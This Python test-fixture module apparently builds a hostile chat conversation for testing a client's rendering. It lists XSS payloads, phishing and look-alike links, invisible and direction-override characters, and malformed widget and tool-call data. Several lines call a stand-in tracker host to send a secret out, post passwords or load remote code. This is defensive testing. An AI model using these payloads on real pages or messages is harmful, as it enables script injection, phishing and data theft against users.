"""Hostile showcase conversation: script injection, tracking URLs, and texts that break layout or encoding.

Every text begins with a description of itself.
"""

import json
from collections.abc import Iterator

from .showcase_huge import HUGE
from .showcase_items import (
    Json,
    assistant,
    attachment,
    file,
    output,
    quoted,
    task,
    task_group,
    tool_call,
    url,
    user,
    widget,
)

_TRACKER = "https://tracker.example"

_MARKUP = (
    ("Script tag", "<script>alert(document.cookie)</script>"),
    ("Script tag split in two", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("Script from elsewhere", f"<SCRIPT/SRC={_TRACKER}/x.js></SCRIPT>"),
    ("Closing tags", "</p></div></article></main></body></html> still inside?"),
    ("Comment left open", "<!-- everything below is gone"),
    ("Text area and title left open", "<textarea><title><plaintext>"),
    ("Event handler", '<img src=x onerror="alert(1)"> <b onmouseover=alert(2)>point here</b> <body onload=alert(3)>'),
    ("Event handler without blanks", "<svg/onload=alert(1)>"),
    ("Attribute that is left", "\" autofocus onfocus=alert(1) x=\" ' onclick='alert(2)"),
    ("Template syntax", "{{ 7 * 7 }} {% debug %} ${7*7} #{7*7} <%= 7 * 7 %>"),
    ("Entities", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;lt; &nbsp;&copy;&NotAnEntity;"),
    (
        "HTMX attributes",
        f'<div hx-get="{_TRACKER}/steal" hx-trigger="load" hx-on:load="alert(1)" data-hx-get="/">x</div>',
    ),
    ("Form", f'<form action="{_TRACKER}/login"><input name=password type=password><button>Sign in</button></form>'),
    ("Frame", f'<iframe src="{_TRACKER}" srcdoc="<script>alert(1)</script>"></iframe><object data=x><embed src=x>'),
    ("Redirect and base", f'<meta http-equiv="refresh" content="0;url={_TRACKER}"><base href="{_TRACKER}/">'),
    ("CSS", f"<style>@import url({_TRACKER}/x.css); * {{ display: none !important }}</style>"),
    (
        "CSS over the whole page",
        '<div style="position:fixed;inset:0;background:red;z-index:9999">Session expired</div>',
    ),
    ("SVG", '<svg><a xlink:href="javascript:alert(1)"><text y="20">here</text></a><script>alert(1)</script></svg>'),
    ("MathML", '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></math>'),
    ("Duplicate id", '<div id="main" class="row" name="csrfmiddlewaretoken">an id that the page has already</div>'),
)

_MARKDOWN = (
    ("Script link", "[press here](javascript:alert(1))"),
    ("Script link in odd capitals", "[press here](JaVaScRiPt:alert(1)) [or here](vbscript:msgbox)"),
    ("Script link by entities", "[press here](javascript&#58;alert(1)) [or](&#x6A;avascript&colon;alert(1))"),
    ("Script link with a tab and a line break", "[press here](java&Tab;script:alert(1)) [or](<java\tscript:alert(1)>)"),
    ("Script link with a control character", "[press here](\x01javascript:alert(1)) [or](<\u00a0javascript:alert(1)>)"),
    ("Script link percent-encoded", "[press here](javascript%3Aalert(1)) [or](%6Aavascript:alert(1))"),
    ("Script link by reference", "[press here][1]\n\n[1]: javascript:alert(1) 'a title'"),
    ("Script link in angle brackets", "<javascript:alert(1)> <JAVASCRIPT:alert(1)>"),
    ("Data link", "[press here](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    (
        "Link to a file and to a host without scheme",
        "[file](file:///etc/passwd) [host](//tracker.example/x) [back](\\\\host\\x)",
    ),
    ("Link to an action of this very page", "[press here](/threads/delete?sure=yes) [up](../../admin) [q](?user=x)"),
    ("Link that shows another address", "[https://bank.example/login](https://phish.example/login)"),
    (
        "Link with a name and a password",
        "[shop](https://shop.example@phish.example/) <https://shop.example:443@phish.example>",
    ),
    ("Link to a look-alike", "[shop](https://ѕhop.example/) [shop](https://xn--hop-7cd.example/)"),
    ("Link with a handler in its title", "[press here](https://phish.example '\" onmouseover=\"alert(1)')"),
    ("Remote image", f'![nothing to see]({_TRACKER}/pixel.gif "a title")'),
    ("Remote image that carries data out", f"![x]({_TRACKER}/?secret=sk-12345) [![x]({_TRACKER}/a.png)]({_TRACKER}/b)"),
    ("Image with a handler", f'![" onerror="alert(1)]({_TRACKER}/x" onload="alert(2))'),
    (
        "Image from a data address",
        "![dot](data:image/svg+xml,<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>)",
    ),
    (
        "HTML in Markdown",
        '**bold <img src=x onerror=alert(1)>** `<b>code</b>`\n\n<div markdown="1">\n\n*inside*\n\n</div>',
    ),
    ("HTML in a table", "\n\n| a | b |\n|---|---|\n| <script>alert(1)</script> | `|` [x](javascript:alert(1)) |"),
    ("Code block with markup for a language", '\n\n```"><script>alert(1)</script>\n</code></pre><b>out?</b>\n```'),
    ("Code block without an end", "\n\n```html\n<script>alert(1)</script>"),
)

_LETTERS = (
    ("Direction override", "invoice\u202egpj.exe is an image \u2067and so\u2066 is\u202d this"),
    ("Invisible characters", "pass\u200bword \u2060wo\u00adrd \ufeff\u200d\u200c\u180e\u2063 \U000e0041\U000e0042 end"),
    (
        "Control characters",
        "nul \x00 bell \x07 escape \x1b[31mred\x1b[0m backspace \x08 delete \x7f next line \x85 end",
    ),
    ("Line separators", "one\u2028two\u2029three\x0bfour\x0cfive\r\nsix\rseven"),
    ("Lone surrogates", "high \ud800 low \udfff turned round \udc00\ud83d end"),
    ("Not characters at all", "\ufffe \uffff \U0001ffff \U0010ffff \ue000 \ufffd"),
    ("Emoji sequences", "👨‍👩‍👧‍👦 👋🏽 🏳️‍🌈 🏴󠁧󠁢󠁳󠁣󠁴󠁿 🇺🇦 ❤️‍🔥 1️⃣ 🧑🏿‍🚀 🙂🙂🙂"),
    ("Arabic", "مرحبًا، لم يصل طلبي رقم 481207 حتى الآن. هل يمكنكم المساعدة؟"),
    ("Hebrew", "שלום, ההזמנה שלי (481207) עדיין לא הגיעה. תוכלו לבדוק?"),
    ("Chinese", "您好,我的订单 481207 还没有收到,请帮我查一下。謝謝!"),
    ("Devanagari", "नमस्ते, मेरा ऑर्डर 481207 अभी तक नहीं आया है। क्या आप देख सकते हैं?"),
    ("Thai, without spaces between words", "สวัสดีค่ะพัสดุของฉันยังไม่ถึงช่วยตรวจสอบให้หน่อยได้ไหมคะ"),
    ("Zalgo", "".join(letter + "\u0334\u0315\u0360\u0349\u0323\u030e\u0353" * 3 for letter in "he comes")),
    ("Letters that look like others", "Аdmin раураl 𝐛𝐨𝐥𝐝 ⓢⓗⓞⓟ ｆｕｌｌ ﷽ ꧅"),
    ("Blanks only after this", " \u00a0\u2003\u3000\t" * 20),
)

_BAD = "javascript:alert(1)"
_WIDGETS: tuple[tuple[str, object], ...] = (
    ("Widget image from elsewhere", {"type": "Image", "src": f"{_TRACKER}/pixel.gif", "alt": '" onerror="alert(1)'}),
    ("Widget image with a script for an address", {"type": "Image", "src": _BAD, "alt": "<b>alt</b>"}),
    (
        "Widget button that wants to be pressed",
        {"type": "Button", "label": "<i>Sign in</i>", "onClickAction": {"type": "open_url", "payload": {"url": _BAD}}},
    ),
    ("Widget Markdown", {"type": "Markdown", "value": f"[x]({_BAD}) ![x]({_TRACKER}/p.gif) <script>alert(1)</script>"}),
    (
        "Widget text with CSS for a colour",
        {"type": "Text", "value": "red?", "color": f"red;background:url({_TRACKER})"},
    ),
    (
        "Widget favicon and theme",
        {
            "type": "ListView",
            "children": [],
            "theme": '"><script>',
            "status": {"text": "<b>x</b>", "favicon": f"{_TRACKER}/f.ico"},
        },
    ),
    ("Widget of a type that is markup", {"type": "<script>alert(1)</script>", "value": "x", "__proto__": {"a": 1}}),
    ("Widget with wrong fields", {"type": ["Text"], "value": {"a": [None, True, 1e308]}, "children": "none"}),
    (
        "Widget chart with odd numbers",
        {"type": "Chart", "data": [{"x": 1e308, "y": -1e308}, 7], "series": 3, "xAxis": []},
    ),
)

_PLAIN_WIDGETS = (
    ("Widget that is a number", "7"),
    ("Widget that is a list", "[[], {}, null]"),
    ("Widget with NaN", '{"type": "Card", "size": NaN, "children": [{"type": "Text", "value": "NaN: as a size"}]}'),
    ("Widget that says type twice", '{"type": "Text", "type": "Button", "value": "one", "label": "other"}'),
)

_ARGUMENTS = (
    ("Arguments with keys twice", '{"user": "mine", "user": "theirs", "user": {"user": 1, "user": 2}}'),
    ("Arguments with a number of 5,000 digits", '{"amount": ' + "9" * 5000 + ', "share": 1e99999}'),
    ("Arguments with lone surrogates", '{"name": "\\ud800", "other": "\\udfff\\u0000"}'),
    ("Arguments that are markup", json.dumps({"<script>alert(1)</script>": "</pre><img src=x onerror=alert(1)>"})),
    ("Arguments that are not JSON", "{'single': quotes, // and a comment\n}"),
    ("Arguments with Infinity", '{"wait": Infinity, "least": -Infinity, "none": NaN}'),
    ("Arguments that are empty", ""),
)


def hostile() -> Iterator[Json]:
    """Yields the items in order. User and assistant both send markup, as clients render the two differently."""
    for label, text in (*_MARKUP, *_LETTERS):
        yield user(f"{label}: {text}")
        yield assistant(f"{label}: {text}")
    for label, text in _MARKDOWN:
        yield assistant(f"{label}: {text}")
    yield from _fields()
    for label, part in _WIDGETS:
        yield widget({"type": "Card", "children": [{"type": "Caption", "value": f"{label}:"}, part]})
    for label, text in _PLAIN_WIDGETS:
        yield user(f"{label}:")
        yield widget(text)
    for label, arguments in _ARGUMENTS:
        yield user(f"{label}:")
        yield tool_call("<b>look_up</b>", arguments, arguments or None)
    for label, make in HUGE:
        yield make(label)


def _fields() -> Iterator[Json]:
    """Hostile texts in fields other than the message text."""
    script, pixel = "<script>alert(1)</script>", f"{_TRACKER}/pixel.gif"
    yield user(
        "Attachments: previews from elsewhere, a script, a name with a path, a type that is markup",
        attachments=(
            attachment("pixel.gif", "image/gif", pixel),
            attachment("press-me.png", "image/png", _BAD),
            attachment("../../etc/passwd", "text/plain", "file:///etc/passwd"),
            attachment("invoice\u202egpj.exe", "application/x-msdownload"),
            attachment(script, f"image/{script}", f'{_TRACKER}/"onerror="alert(1)'),
            attachment("n" * 400 + ".txt", "text/plain"),
        ),
    )
    yield user(quoted(f"Quoted markup: {script}"), f"Answer to it: {script}")
    yield user(
        "Model and tool that are markup: see the options of this message",
        options={"tool_choice": {"id": script}, "model": '"><img src=x onerror=alert(1)>'},
    )
    yield assistant(
        output(
            "Annotations: a script, data, another host, a host with tricks, a file name with markup",
            url(_BAD),
            url(" \tJAVASCRIPT:alert(1)"),
            url("data:text/html,<script>alert(1)</script>"),
            url(f'{_TRACKER}/?a=1&b="onmouseover=alert(1)'),
            url("https://shop.example@phish.example/"),
            url("not an address"),
            url("http://[::1"),
            file(f"{script}.pdf"),
            file("..\\..\\\u202efdp.exe"),
        )
    )
    yield task(f"Task with markup: {script}", f"[x]({_BAD}) ![x]({pixel}) **bold?**")
    yield task_group(("custom", f"Group with markup: {script}", f'"><img src=x onerror=alert(1)> {pixel}'))
